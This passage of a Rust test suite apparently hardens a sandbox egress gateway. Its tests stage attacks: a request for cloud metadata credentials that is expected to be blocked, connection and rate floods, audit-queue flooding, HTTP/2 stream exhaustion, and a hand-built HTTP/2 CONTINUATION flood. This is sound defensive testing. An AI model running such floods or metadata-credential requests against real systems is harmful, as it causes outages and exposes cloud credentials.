    const METADATA: &str = "100.100.100.200";
    let (rt, tmp) = scratch("always-denied");
    let dir = &tmp.0;
    let topo = Topology::new();
    let (node, world) = (&topo.node, &topo.world);
    let sb = sandbox_net(&topo);
    topo.add_world_address([100, 100, 100, 200], 32);
    let seen = world_server(&rt, world, format!("{METADATA}:80").parse().unwrap(), None);
    let _world = world_server(&rt, world, format!("{WORLD}:80").parse().unwrap(), None);
    // Control: the node itself reaches the host (the path the gateway would take).
    let o = node.exec(
        "curl",
        &["-sS", "--max-time", "5", "-o", "/dev/null", "-w", "%{http_code}", &format!("http://{METADATA}/control")],
    );
    assert_eq!(String::from_utf8_lossy(&o.stdout), "200", "{}", text(&o));

    gateway_ca(dir);
    let ca_arg = dir.join("ca/cube-root-ca.crt").to_str().unwrap().to_string();
    let audit = dir.join("log/access.jsonl");
    let pol = json!({"policy_id": "allow-all", "rules": [
        {"id": "metadata", "match": {"host": METADATA}, "action": {"allow": true}},
        {"id": "all", "match": {}, "action": {"allow": true}}
    ]});
    {
        // The default list (no flag): 100.100.100.200/32.
        let _gw = start_gateway(node, node.command(egress_bin().to_str().unwrap()), dir, audit.to_str().unwrap(), &[]);
        put_policy(node, SANDBOX_IP, &pol);
        let (code, _, o) = curl(&sb, &[&format!("http://{WORLD}/ok")]);
        assert_eq!(code, 200, "control: {}", text(&o));
        let (code, body, o) = curl(&sb, &[&format!("http://{METADATA}/latest/meta-data/ram/security-credentials/")]);
        assert_eq!(code, 403, "{}", text(&o));
        assert!(body.contains("destination_always_denied"), "{body}");
        let (code, _, o) = curl(&sb, &["--cacert", &ca_arg, &format!("https://{METADATA}/latest/meta-data/")]);
        assert_eq!(code, 0, "TLS to an always-denied address completed: {}", text(&o));
        let paths: Vec<String> = seen.lock().unwrap().iter().map(|r| r.path.clone()).collect();
        assert_eq!(paths, ["/control"], "the gateway dialled the always-denied address");
        audit_when(&audit, |lines| {
            has_event(lines, "security_event", "destination_always_denied")
                && lines
                    .iter()
                    .any(|l| l["event"] == "tls_handshake" && l["security"]["reason"] == "destination_always_denied")
        });
    }
    // The list emptied: the same request is served, so the list refused it above.
    let _gw = start_gateway(
        node,
        node.command(egress_bin().to_str().unwrap()),
        dir,
        audit.to_str().unwrap(),
        &["--always-denied-cidr", ""],
    );
    put_policy(node, SANDBOX_IP, &pol);
    let (code, _, o) = curl(&sb, &[&format!("http://{METADATA}/reopened")]);
    assert_eq!(code, 200, "without the list the allow-all rule applies: {}", text(&o));
    assert!(seen.lock().unwrap().iter().any(|r| r.path == "/reopened"));
    drop(rt);
}

/// Attack (R18): one sandbox (192.168.0.2, no policy needed) opens 300 connections to the
/// gateway and holds them idle, in a gateway whose descriptor limit is 256 (`prlimit`; the
/// limit is per process, the budget is derived from it). Property: another sandbox's request is
/// still served; the flood beyond the budget is closed at accept and counted.
#[test]
fn egress_gateway_connection_flood_starves_no_other_sandbox() {
    if !require_root("egress_gateway_connection_flood_starves_no_other_sandbox") {
        return;
    }
    const FLOOD: usize = 300;
    let (rt, tmp) = scratch("connflood");
    let dir = &tmp.0;
    let topo = Topology::new();
    let (node, world) = (&topo.node, &topo.world);
    let sb = sandbox_net(&topo);
    gateway_ca(dir);
    let seen = world_server(&rt, world, format!("{WORLD}:80").parse().unwrap(), None);
    let _gw =
        start_gateway(node, egress_with_nofile(node, 256), dir, dir.join("log/access.jsonl").to_str().unwrap(), &[]);
    let admin = |args: &[&str]| admin_curl(node, args);
    let pol = json!({"policy_id": "victim", "rules": [
        {"id": "world", "match": {"host": WORLD, "scheme": "http"}, "action": {"allow": true}}
    ]});
    put_policy(node, UNKNOWN_IP, &pol);

    // The flood: FLOOD idle connections from the attacker's address (the namespace's first,
    // 192.168.0.2), held open.
    let to: SocketAddr = format!("{WORLD}:80").parse().unwrap();
    let held: Vec<std::net::TcpStream> = sb.run(move || {
        (0..FLOOD)
            .map(|_| std::net::TcpStream::connect_timeout(&to, Duration::from_secs(5)).expect("connect"))
            .collect()
    });
    assert_eq!(held.len(), FLOOD);

    // The victim's request, queued behind the whole flood, is served.
    let (code, _, o) = curl(&sb, &["--interface", UNKNOWN_IP, &format!("http://{WORLD}/victim")]);
    assert_eq!(code, 200, "the victim was starved: {}", text(&o));
    assert!(seen.lock().unwrap().iter().any(|r| r.path == "/victim"));
    // How: the attacker kept its budget (256 / 16 → the minimum, 64); the rest was closed.
    let (_, metrics) = admin(&["http://127.0.0.1:9091/metrics"]);
    let refused =
        format!("cube_egress_connections_refused_total{{reason=\"sandbox_budget\"}} {}", FLOOD - egress::MIN_AUTO);
    assert!(metrics.contains(&refused), "{refused} missing:\n{metrics}");
    drop(held);
    drop(rt);
}

/// Attack (R102): one sandbox (192.168.0.2) opens and closes connections to the gateway, four
/// a millisecond at most (well above the gateway's default rate, 400/s after a burst of 800,
/// even on a loaded machine; a full accept queue would only slow its connects), with no
/// CubeVS in front (whose own SYN bound, R91, acts first on a node). Property: once its burst
/// is spent, its
/// connections beyond the rate are reset at accept and counted
/// (`connections_refused_total{reason="sandbox_rate"}`), at most burst + rate × elapsed are
/// admitted; meanwhile, with the attacker's bucket kept empty (a node-wide bucket would refuse
/// most other connections), another sandbox's 20 new connections are all served; the
/// attacker is served again once its bucket refilled.
#[test]
fn egress_gateway_connection_rate_is_per_sandbox() {
    if !require_root("egress_gateway_connection_rate_is_per_sandbox") {
        return;
    }
    let (rt, tmp) = scratch("connrate");
    let dir = &tmp.0;
    let topo = Topology::new();
    let (node, world) = (&topo.node, &topo.world);
    let sb = sandbox_net(&topo);
    gateway_ca(dir);
    let seen = world_server(&rt, world, format!("{WORLD}:80").parse().unwrap(), None);
    let _gw = start_gateway(
        node,
        node.command(egress_bin().to_str().unwrap()),
        dir,
        dir.join("log/access.jsonl").to_str().unwrap(),
        &[],
    );
    let pol = json!({"policy_id": "p", "rules": [
        {"id": "world", "match": {"host": WORLD, "scheme": "http"}, "action": {"allow": true}}
    ]});
    put_policy(node, SANDBOX_IP, &pol);
    put_policy(node, UNKNOWN_IP, &pol);
    let to: SocketAddr = format!("{WORLD}:80").parse().unwrap();
    let attacker: std::net::Ipv4Addr = SANDBOX_IP.parse().unwrap();
    let sandbox_rate = || {
        let (_, metrics) = admin_curl(node, &["http://127.0.0.1:9091/metrics"]);
        metric_sum(&metrics, "cube_egress_connections_refused_total{reason=\"sandbox_rate\"}") as usize
    };

    let stop = Arc::new(AtomicBool::new(false));
    let st = stop.clone();
    let t0 = Instant::now();
    let flood = sb.spawn_thread(move || {
        let (mut made, mut failed) = (0usize, 0usize);
        let end = Instant::now() + Duration::from_secs(60);
        while !st.load(Ordering::Relaxed) && Instant::now() < end {
            for _ in 0..4 {
                match connect_from(attacker, to) {
                    Some(_) => made += 1,
                    None => failed += 1,
                }
            }
            std::thread::sleep(Duration::from_millis(1));
        }
        (made, failed)
    });
    // The burst is spent once the first connection is reset; from then on the attacker takes
    // every token as it comes.
    wait_for("the attacker's first connection reset at accept", Duration::from_secs(30), || sandbox_rate() > 0);
    for i in 0..20 {
        let (code, _, o) = curl(&sb, &["--interface", UNKNOWN_IP, &format!("http://{WORLD}/victim-{i}")]);
        assert_eq!(code, 200, "the victim's connection {i} while the attacker's bucket is empty: {}", text(&o));
    }
    stop.store(true, Ordering::Relaxed);
    let (made, failed) = flood.join().unwrap();
    assert_eq!(failed, 0, "the kernel completes every handshake");
    // The gateway accepts from its backlog after the kernel completed the handshakes: count
    // once every listener's accept queue is empty (`ss` Recv-Q) and the count stopped growing;
    // the bound on what it admitted counts that time too.
    let backlog = || -> u64 {
        let o = node.exec("ss", &["-Hltn"]);
        let out = String::from_utf8_lossy(&o.stdout).into_owned();
        out.lines().filter_map(|l| l.split_whitespace().nth(1)?.parse::<u64>().ok()).sum()
    };
    let mut refused = sandbox_rate();
    let end = Instant::now() + Duration::from_secs(30);
    loop {
        std::thread::sleep(Duration::from_millis(200));
        let (queued, now) = (backlog(), sandbox_rate());
        if queued == 0 && now == refused {
            break;
        }
        assert!(Instant::now() < end, "the gateway never emptied its accept queue ({queued} queued)");
        refused = now;
    }
    let took = t0.elapsed();
    let allowed = 800 + (400.0 * took.as_secs_f64()).ceil() as usize;
    println!("attacker: {made} connections in {took:?}, {refused} reset at accept (at most {allowed} admitted)");
    assert!(made - refused <= allowed, "{} admitted in {took:?}: over burst + rate", made - refused);

    // Not a ban: once its bucket refilled, the attacker is served again.
    std::thread::sleep(Duration::from_secs(3));
    let (code, _, o) = curl(&sb, &["--interface", SANDBOX_IP, &format!("http://{WORLD}/attacker-later")]);
    assert_eq!(code, 200, "the attacker once its bucket refilled: {}", text(&o));
    let paths: Vec<String> = seen.lock().unwrap().iter().map(|r| r.path.clone()).collect();
    assert_eq!(paths.iter().filter(|p| p.starts_with("/victim-")).count(), 20);
    assert!(paths.iter().any(|p| p == "/attacker-later"));
    drop(rt);
}

/// A TCP connection from `src` (an address of the namespace the caller runs in) to `to`, held
/// open by the caller; `None` when it cannot be made.
fn connect_from(src: std::net::Ipv4Addr, to: SocketAddr) -> Option<std::net::TcpStream> {
    use nix::sys::socket::{AddressFamily, SockFlag, SockType, SockaddrIn, bind, connect, socket};
    let fd = socket(AddressFamily::Inet, SockType::Stream, SockFlag::SOCK_CLOEXEC, None).ok()?;
    bind(std::os::fd::AsRawFd::as_raw_fd(&fd), &SockaddrIn::from(std::net::SocketAddrV4::new(src, 0))).ok()?;
    let SocketAddr::V4(to) = to else { return None };
    connect(std::os::fd::AsRawFd::as_raw_fd(&fd), &SockaddrIn::from(to)).ok()?;
    Some(std::net::TcpStream::from(fd))
}

/// Sum of every sample of the metric family `name` in a Prometheus text exposition (0 when
/// absent).
fn metric_sum(metrics: &str, name: &str) -> f64 {
    metrics
        .lines()
        .filter(|l| l.strip_prefix(name).is_some_and(|r| r.starts_with(' ') || r.starts_with('{')))
        .filter_map(|l| l.rsplit_once(' ').and_then(|(_, v)| v.parse::<f64>().ok()))
        .sum()
}

/// Attack (R22): six sandboxes, each within its own R18 budget (64 connections), together hold
/// 384 idle connections, more than the gateway's 256 descriptors. Before R22 `accept(2)` failed
/// with EMFILE and the victim sandbox (a third address, with a policy) was never served. Now
/// every sandbox with a policy keeps a floor of connections and the flood shares only what
/// remains under a ceiling derived from the descriptor limit.
#[test]
fn egress_gateway_colluding_sandboxes_starve_no_other_sandbox() {
    if !require_root("egress_gateway_colluding_sandboxes_starve_no_other_sandbox") {
        return;
    }
    const ATTACKERS: u8 = 6;
    const EACH: usize = 64;
    let (rt, tmp) = scratch("collude");
    let dir = &tmp.0;
    let topo = Topology::new();
    let (node, world) = (&topo.node, &topo.world);
    let sb = sandbox_net(&topo);
    gateway_ca(dir);
    let seen = world_server(&rt, world, format!("{WORLD}:80").parse().unwrap(), None);
    let _gw =
        start_gateway(node, egress_with_nofile(node, 256), dir, dir.join("log/access.jsonl").to_str().unwrap(), &[]);
    let pol = json!({"policy_id": "p", "rules": [
        {"id": "world", "match": {"host": WORLD, "scheme": "http"}, "action": {"allow": true}}
    ]});
    // Every attacker has a policy too: each gets a floor of its own, the hardest case.
    let attackers: Vec<std::net::Ipv4Addr> =
        (0..ATTACKERS).map(|i| std::net::Ipv4Addr::new(192, 168, 0, 10 + i)).collect();
    for a in &attackers {
        sb.ip(&["addr", "add", &format!("{a}/18"), "dev", "eth0"]);
        put_policy(node, &a.to_string(), &pol);
    }
    put_policy(node, UNKNOWN_IP, &pol);

    let to: SocketAddr = format!("{WORLD}:80").parse().unwrap();
    let held: Vec<std::net::TcpStream> =
        sb.run(move || attackers.iter().flat_map(|a| (0..EACH).filter_map(move |_| connect_from(*a, to))).collect());
    assert_eq!(held.len(), ATTACKERS as usize * EACH, "the kernel completes every handshake (backlog 4096)");

    // The victim's request, queued behind the whole flood, is served.
    let (code, _, o) = curl(&sb, &["--interface", UNKNOWN_IP, &format!("http://{WORLD}/victim")]);
    assert_eq!(code, 200, "the victim was starved: {}", text(&o));
    assert!(seen.lock().unwrap().iter().any(|r| r.path == "/victim"));
    // How: capacity (256 − 64 reserved) / 2 = 96 connections; 7 sandboxes with a policy hold a
    // floor of min(8, 96 / (2 × 7)) = 6 each (42), the shared remainder is 54. The first
    // attacker took its floor and the whole remainder (60), the five others their floors (30):
    // 90 admitted, 294 refused by the ceiling, none by the per-sandbox budget (64).
    let (_, metrics) = admin_curl(node, &["http://127.0.0.1:9091/metrics"]);
    let want = "cube_egress_connections_refused_total{reason=\"node_ceiling\"} 294";
    assert!(metrics.contains(want), "{want} missing:\n{metrics}");
    drop(held);
    drop(rt);
}

/// The leaf `sb` is served from `src` for `name` (resolved to [`WORLD`]), as `curl -w
/// %{certs}` prints it (subject, serial, dates, PEM), or `None` when the gateway refused the
/// handshake.
fn served_leaf(sb: &TestNetns, ca: &str, src: &str, name: &str) -> Option<String> {
    let resolve = format!("{name}:443:{WORLD}");
    let url = format!("https://{name}/");
    let o = sb.exec(
        "curl",
        &["-sS", "--max-time", "10", "-o", "/dev/null", "-w", "%{certs}", "--cacert", ca, "--interface", src]
            .into_iter()
            .chain(["--resolve", &resolve, &url])
            .collect::<Vec<_>>(),
    );
    let out = String::from_utf8_lossy(&o.stdout).into_owned();
    // The chain's first certificate is the leaf (the CA follows, after the leaf's PEM).
    let leaf = out.split("-----END CERTIFICATE-----").next().unwrap_or("").to_string();
    leaf.contains("Serial Number").then_some(leaf)
}

/// Attack (R81): sandbox B learns whether, and when, another sandbox on the node reached a
/// name over HTTPS. Before R81 the gateway cached one leaf per name for every sandbox: B, its
/// mint budget spent, still completed a handshake for a name another sandbox had reached
/// (cached, free) while any name nobody reached was refused, and the leaf it got was the
/// other sandbox's (same serial; notBefore = that sandbox's first visit, to the second). Now
/// every sandbox mints its own leaves: both probes are refused alike, and no leaf B is served
/// is A's.
#[test]
fn egress_gateway_leaves_tell_no_sandbox_about_another() {
    if !require_root("egress_gateway_leaves_tell_no_sandbox_about_another") {
        return;
    }
    let (rt, tmp) = scratch("leaves");
    let dir = &tmp.0;
    let topo = Topology::new();
    let node = &topo.node;
    let sb = sandbox_net(&topo);
    gateway_ca(dir);
    let ca = dir.join("ca/cube-root-ca.crt");
    let ca = ca.to_str().unwrap();
    // One mint per sandbox, and no refill within the test.
    let extra = ["--mint-rate-per-sec", "0.001", "--mint-burst", "1"];
    let _gw = start_gateway(
        node,
        node.command(egress_bin().to_str().unwrap()),
        dir,
        dir.join("log/access.jsonl").to_str().unwrap(),
        &extra,
    );
    let pol = json!({"policy_id": "p", "rules": [
        {"id": "any", "match": {"sni": "*.example.test"}, "action": {"allow": true}}
    ]});
    put_policy(node, SANDBOX_IP, &pol);
    put_policy(node, UNKNOWN_IP, &pol);

    // A reaches a name (the handshake is all it takes; no world server answers).
    let a_leaf = served_leaf(&sb, ca, SANDBOX_IP, "visited.example.test").expect("A's handshake");
    // B spends its one mint on a name of its own, then probes A's name and a name nobody reached.
    let b_own = served_leaf(&sb, ca, UNKNOWN_IP, "own.example.test").expect("B's handshake");
    let b_visited = served_leaf(&sb, ca, UNKNOWN_IP, "visited.example.test");
    let b_unvisited = served_leaf(&sb, ca, UNKNOWN_IP, "unvisited.example.test");
    assert_eq!(b_unvisited, None, "over its budget B mints nothing");
    assert!(b_visited.is_none(), "B was served the leaf A's visit left behind:\n{}", b_visited.unwrap_or_default());
    let serial = |leaf: &str| leaf.lines().find(|l| l.starts_with("Serial Number")).map(str::to_string);
    assert!(serial(&a_leaf).is_some() && serial(&a_leaf) != serial(&b_own), "{a_leaf}\n{b_own}");

    // A is released (the agent's DELETE) and the next sandbox on A's address gets a policy:
    // it is served a leaf of its own, within a full budget (R81, R86), not A's.
    let url = format!("http://127.0.0.1:9091/admin/v1/policies/{SANDBOX_IP}");
    assert_eq!(admin_curl(node, &["-X", "DELETE", &url]).0, 200);
    put_policy(node, SANDBOX_IP, &pol);
    let next = served_leaf(&sb, ca, SANDBOX_IP, "visited.example.test").expect("the next sandbox's handshake");
    assert_ne!(serial(&next), serial(&a_leaf), "the address's next sandbox was served A's leaf");
    drop(rt);
}

/// Attack (R22): one sandbox floods allowed requests while the audit sink is stalled (a FIFO
/// the test does not read yet), so every record it may queue is queued. Before R22 the shared
/// queue was full and the victim's allowed request got 503 at once (fail closed, but for the
/// flood's sake). Now each sandbox with a policy keeps a floor of the queue: the victim's
/// `http_request_start` is queued, and once the sink drains it is served and both of its
/// records are written.
#[test]
fn egress_gateway_audit_flood_starves_no_other_sandbox() {
    if !require_root("egress_gateway_audit_flood_starves_no_other_sandbox") {
        return;
    }
    const FLOOD: usize = 300;
    let (rt, tmp) = scratch("auditflood");
    let dir = &tmp.0;
    let topo = Topology::new();
    let (node, world) = (&topo.node, &topo.world);
    let sb = sandbox_net(&topo);
    gateway_ca(dir);
    let seen = world_server(&rt, world, format!("{WORLD}:80").parse().unwrap(), None);
    let fifo = dir.join("audit.fifo");
    nix::unistd::mkfifo(&fifo, nix::sys::stat::Mode::from_bits_truncate(0o600)).unwrap();
    let conf = dir.join("egress.toml");
    std::fs::write(&conf, "audit_queue_capacity = 64\n").unwrap();
    let _gw = start_gateway(
        node,
        egress_with_nofile(node, 8192),
        dir,
        fifo.to_str().unwrap(),
        &["--config", conf.to_str().unwrap()],
    );
    let pol = json!({"policy_id": "p", "rules": [
        {"id": "world", "match": {"host": WORLD, "scheme": "http"}, "action": {"allow": true}}
    ]});
    put_policy(node, SANDBOX_IP, &pol);
    put_policy(node, UNKNOWN_IP, &pol);
    let metrics = || admin_curl(node, &["http://127.0.0.1:9091/metrics"]).1;

    // The flood: FLOOD connections from the attacker, one allowed request each (long paths,
    // so the 64 KiB pipe holds few records), never read.
    let to: SocketAddr = format!("{WORLD}:80").parse().unwrap();
    let attacker: std::net::Ipv4Addr = SANDBOX_IP.parse().unwrap();
    let held: Vec<std::net::TcpStream> = sb.run(move || {
        use std::io::Write;
        (0..FLOOD)
            .filter_map(|i| {
                let mut s = connect_from(attacker, to)?;
                let req = format!("GET /flood/{i}/{} HTTP/1.1\r\nHost: {WORLD}\r\n\r\n", "a".repeat(2000));
                s.write_all(req.as_bytes()).ok()?;
                Some(s)
            })
            .collect()
    });
    assert_eq!(held.len(), FLOOD);
    wait_for("the flood to be refused for want of audit room", Duration::from_secs(20), || {
        metric_sum(&metrics(), "cube_egress_audit_refused_total") >= 1.0
    });
    let queued_before = metric_sum(&metrics(), "cube_egress_audit_queued_records");

    // The victim's allowed request: its start record must be queued (not refused) ...
    let mut victim = ChildGuard::from_child(
        sb.command("curl")
            .args(["-sS", "--max-time", "30", "-o", "/dev/null", "-w", "%{http_code}", "--interface", UNKNOWN_IP])
            .arg(format!("http://{WORLD}/victim"))
            .stdin(std::process::Stdio::null())
            .stdout(std::process::Stdio::piped())
            .spawn()
            .unwrap(),
    );
    wait_for("the victim's record queued (or its answer)", Duration::from_secs(20), || {
        metric_sum(&metrics(), "cube_egress_audit_queued_records") > queued_before
            || victim.child().try_wait().unwrap().is_some()
    });
    // ... then the sink drains.
    let out = Arc::new(Mutex::new(Vec::<u8>::new()));
    let stop = Arc::new(AtomicBool::new(false));
    let reader = {
        let (out, stop, fifo) = (out.clone(), stop.clone(), fifo.clone());
        std::thread::spawn(move || {
            use std::{io::Read, os::unix::fs::OpenOptionsExt};
            let mut f = std::fs::OpenOptions::new().read(true).custom_flags(libc::O_NONBLOCK).open(&fifo).unwrap();
            let mut buf = vec![0u8; 65536];
            while !stop.load(Ordering::SeqCst) {
                match f.read(&mut buf) {
                    Ok(n) if n > 0 => out.lock().unwrap().extend_from_slice(&buf[..n]),
                    _ => std::thread::sleep(Duration::from_millis(10)),
                }
            }
        })
    };
    let status = victim.child().wait().unwrap();
    let mut code = String::new();
    std::io::Read::read_to_string(victim.child().stdout.as_mut().unwrap(), &mut code).unwrap();
    assert!(status.success(), "victim curl failed: {status}");
    assert_eq!(code, "200", "the victim was refused: the flood took its audit room");
    assert!(seen.lock().unwrap().iter().any(|r| r.path == "/victim"));
    let victim_records = |out: &[u8]| -> Vec<String> {
        String::from_utf8_lossy(out)
            .lines()
            .filter_map(|l| serde_json::from_str::<Value>(l).ok())
            .filter(|l| l["sandbox"]["src_ip"] == UNKNOWN_IP)
            .map(|l| l["event"].as_str().unwrap_or("").to_string())
            .collect()
    };
    wait_for("the victim's records in the audit", Duration::from_secs(20), || {
        let ev = victim_records(&out.lock().unwrap());
        ev.iter().any(|e| e == "http_request_start") && ev.iter().any(|e| e == "http_request")
    });
    // The flood was refused for its own requests only, and counted by reason.
    let m = metrics();
    // Every fixed label value is exported from the start at 0 (O24): the count must have moved.
    assert!(
        m.contains("cube_egress_audit_refused_total{reason=\"queue_share\"} ")
            && !m.contains("cube_egress_audit_refused_total{reason=\"queue_share\"} 0\n"),
        "{m}"
    );
    stop.store(true, Ordering::SeqCst);
    reader.join().unwrap();
    drop(held);
    drop(rt);
}

/// Attack (R24): one sandbox's two HTTP/2 connections carry 400 concurrent requests to a
/// plain-HTTP upstream that does not answer; each is forwarded on an upstream socket of its
/// own, so two admitted connections held ~250 descriptors under a limit of 256 and a victim
/// sandbox's request was starved (EMFILE). Now every concurrent request of a connection beyond
/// its first takes a place in the sandbox's share of the connection pool (R22); the rest get
/// 503 at once.
#[test]
fn egress_gateway_http2_streams_starve_no_other_sandbox() {
    if !require_root("egress_gateway_http2_streams_starve_no_other_sandbox") {
        return;
    }
    const CONNS: usize = 2;
    const STREAMS: usize = 200;
    let (rt, tmp) = scratch("h2flood");
    let dir = &tmp.0;
    let topo = Topology::new();
    let (node, world) = (&topo.node, &topo.world);
    let sb = sandbox_net(&topo);
    gateway_ca(dir);
    let seen = world_server(&rt, world, format!("{WORLD}:80").parse().unwrap(), None);
    let _gw =
        start_gateway(node, egress_with_nofile(node, 256), dir, dir.join("log/access.jsonl").to_str().unwrap(), &[]);
    let pol = json!({"policy_id": "p", "rules": [
        {"id": "world", "match": {"host": WORLD, "scheme": "http"}, "action": {"allow": true}}
    ]});
    put_policy(node, SANDBOX_IP, &pol);
    put_policy(node, UNKNOWN_IP, &pol);

    // The attacker (192.168.0.2, the namespace's first address): h2c with prior knowledge.
    let to: SocketAddr = format!("{WORLD}:80").parse().unwrap();
    let answered = Arc::new(std::sync::atomic::AtomicUsize::new(0));
    let (stop_tx, stop_rx) = std::sync::mpsc::channel::<()>();
    let a = answered.clone();
    let attacker = sb.spawn_thread(move || {
        let rt = tokio::runtime::Builder::new_current_thread().enable_all().build().unwrap();
        rt.block_on(async move {
            for c in 0..CONNS {
                let s = tokio::net::TcpStream::connect(to).await.expect("connect");
                let (send, conn) =
                    hyper::client::conn::http2::handshake(TokioExecutor::new(), TokioIo::new(s)).await.expect("h2");
                tokio::spawn(conn);
                for i in 0..STREAMS {
                    let (mut send, a) = (send.clone(), a.clone());
                    tokio::spawn(async move {
                        let req = Request::get(format!("http://{WORLD}/v1/hang/{c}/{i}"))
                            .body(Full::new(Bytes::new()))
                            .unwrap();
                        let _ = send.send_request(req).await;
                        a.fetch_add(1, Ordering::SeqCst);
                    });
                }
            }
            let _ = tokio::task::spawn_blocking(move || stop_rx.recv()).await;
        });
    });
    let hanging = || seen.lock().unwrap().iter().filter(|r| r.path.starts_with("/v1/hang/")).count();
    wait_for("every attacker request forwarded or answered", Duration::from_secs(30), || {
        answered.load(Ordering::SeqCst) + hanging() == CONNS * STREAMS
    });

    let (code, _, o) = curl(&sb, &["--interface", UNKNOWN_IP, &format!("http://{WORLD}/victim")]);
    assert_eq!(code, 200, "the victim was starved: {}", text(&o));
    // How: the attacker's places count against its R18 budget (64 at this limit): its two
    // connections and 62 second-or-later requests; with the two first requests 64 are
    // forwarded and 336 refused. (Its share of the pool, 8 + 80, is larger.)
    let (_, metrics) = admin_curl(node, &["http://127.0.0.1:9091/metrics"]);
    let want = "cube_egress_connections_refused_total{reason=\"upstream_sandbox_budget\"} 336";
    assert!(metrics.contains(want), "{want} missing:\n{metrics}");
    assert_eq!(hanging(), 64);
    let _ = stop_tx.send(());
    attacker.join().unwrap();
    drop(rt);
}

mod egress {
    /// `cube_egress::conns::MIN_AUTO` (the test crate does not link the gateway).
    pub const MIN_AUTO: usize = 64;
}

/// Sends `raw` from `ns` to `to`, ignoring a failed send (the gateway may close before all of
/// it is written), half-closes, and returns what came back until close (or 10 s).
fn raw_http_lossy(ns: &TestNetns, to: &str, raw: &[u8]) -> String {
    use std::io::{Read, Write};
    let to: SocketAddr = to.parse().unwrap();
    let raw = raw.to_vec();
    ns.run(move || {
        let mut s = std::net::TcpStream::connect_timeout(&to, Duration::from_secs(5)).expect("connect");
        s.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
        let _ = s.write_all(&raw);
        let _ = s.shutdown(std::net::Shutdown::Write);
        let mut out = Vec::new();
        let _ = s.read_to_end(&mut out);
        String::from_utf8_lossy(&out).into_owned()
    })
}

/// An HTTP/2 frame: 9-byte header (length, type, flags, stream id) and `payload`.
fn h2_frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let n = payload.len() as u32;
    let mut f = vec![(n >> 16) as u8, (n >> 8) as u8, n as u8, kind, flags];
    f.extend_from_slice(&stream.to_be_bytes());
    f.extend_from_slice(payload);
    f
}

/// HPACK integer with an `n`-bit prefix (RFC 7541 §5.1), `first` holding the pattern bits.
fn hpack_int(first: u8, n: u32, mut v: usize, out: &mut Vec<u8>) {
    let max = (1usize << n) - 1;
    if v < max {
        out.push(first | v as u8);
        return;
    }
    out.push(first | max as u8);
    v -= max;
    while v >= 128 {
        out.push((v % 128 + 128) as u8);
        v /= 128;
    }
    out.push(v as u8);
}

/// HPACK "literal header field without indexing, new name" (RFC 7541 §6.2.2).
fn hpack_literal(name: &str, value: &str, out: &mut Vec<u8>) {
    out.push(0);
    hpack_int(0, 7, name.len(), out);
    out.extend_from_slice(name.as_bytes());
    hpack_int(0, 7, value.len(), out);
    out.extend_from_slice(value.as_bytes());
}

/// A GET header block for `path` on `authority` (`:method GET`, `:scheme http` indexed).
fn h2_get_block(authority: &str, path: &str) -> Vec<u8> {
    let mut b = vec![0x82, 0x86];
    // `:path` and `:authority` with indexed names (static table 4 and 1), not indexed.
    b.push(0x04);
    hpack_int(0, 7, path.len(), &mut b);
    b.extend_from_slice(path.as_bytes());
    b.push(0x01);
    hpack_int(0, 7, authority.len(), &mut b);
    b.extend_from_slice(authority.as_bytes());
    b
}

const H2_PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

/// CONTINUATION flood (CVE-2024-27316 class): HEADERS without END_HEADERS, then CONTINUATION
/// frames of valid header fields, never ending. Returns the bytes written before the gateway
/// closed the connection or sent GOAWAY (`None` if it still read after `limit` bytes).
fn continuation_flood(ns: &TestNetns, to: &str, limit: usize) -> Option<usize> {
    use std::io::{Read, Write};
    let to: SocketAddr = to.parse().unwrap();
    ns.run(move || {
        let mut s = std::net::TcpStream::connect_timeout(&to, Duration::from_secs(5)).expect("connect");
        s.set_write_timeout(Some(Duration::from_secs(10))).unwrap();
        let mut start = H2_PREFACE.to_vec();
        start.extend(h2_frame(4, 0, 0, &[]));
        start.extend(h2_frame(1, 0, 1, &h2_get_block("api.example.test", "/flood")));
        s.write_all(&start).ok()?;
        let mut block = Vec::new();
        let value = "v".repeat(4000);
        for i in 0..4 {
            hpack_literal(&format!("x-flood-{i}"), &value, &mut block);
        }
        let frame = h2_frame(9, 0, 1, &block);
        let mut sent = start.len();
        let mut buf = [0u8; 4096];
        // The server's frames so far; a GOAWAY (type 7) among them ends the flood's effect.
        let mut got: Vec<u8> = Vec::new();
        let goaway = |got: &[u8]| {
            let mut at = 0;
            while at + 9 <= got.len() {
                if got[at + 3] == 7 {
                    return true;
                }
                at += 9 + ((got[at] as usize) << 16 | (got[at + 1] as usize) << 8 | got[at + 2] as usize);
            }
            false
        };
        s.set_nonblocking(true).unwrap();
        while sent < limit {
            match s.read(&mut buf) {
                Ok(0) => return Some(sent),
                Ok(n) => {
                    got.extend_from_slice(&buf[..n]);
                    if goaway(&got) {
                        return Some(sent);
                    }
                }
                Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => {}
                Err(_) => return Some(sent),
            }
            let mut off = 0;
            while off < frame.len() {
                match s.write(&frame[off..]) {
                    Ok(n) => off += n,
                    Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => {
                        // The gateway stopped reading: wait until it reads or closes.
                        let mut fds = [nix::poll::PollFd::new(
                            std::os::fd::AsFd::as_fd(&s),
                            nix::poll::PollFlags::POLLOUT | nix::poll::PollFlags::POLLIN,
                        )];
                        let _ = nix::poll::poll(&mut fds, nix::poll::PollTimeout::from(10_000u16));
                        if fds[0].revents().is_some_and(|r| r.contains(nix::poll::PollFlags::POLLIN)) {
                            break;
                        }
                    }
                    Err(_) => return Some(sent),
                }
            }
            sent += off;
        }
        None
    })
}

/// Attack: protocol features a sandbox can use against the gateway or to get past its
/// per-request rules, on the plain HTTP listener (the policy allows `api.example.test` and
/// denies its `/admin*` paths, as in `egress_gateway_request_confusion`).
/// 1. WebSocket `Upgrade` on an allowed request, then a denied request on the same
///    connection: the upgrade is not passed on (hop-by-hop), the second request is decided
///    by the policy (403), the world never sees it.
/// 2. `Upgrade: h2c` then an HTTP/2 preface and a denied request: never reaches the world.
/// 3. `CONNECT` to the allowed host (and to the world's address), then a denied request in
///    the would-be tunnel: no tunnel, nothing denied reaches the world.
/// 4. HTTP/2 CONTINUATION flood (prior knowledge): the gateway ends the connection after a
///    bounded amount (the header list limit), not after 64 MiB.
/// 5. A 1 MiB request header: refused (431), never forwarded.
/// 6. Audit-log injection: quotes and JSON in the `User-Agent`, CR/LF encoded in the path:
///    every audit line is one JSON object, the values are kept verbatim inside their fields.
/// 7. A keep-alive connection whose second request names another allowed host: the credential
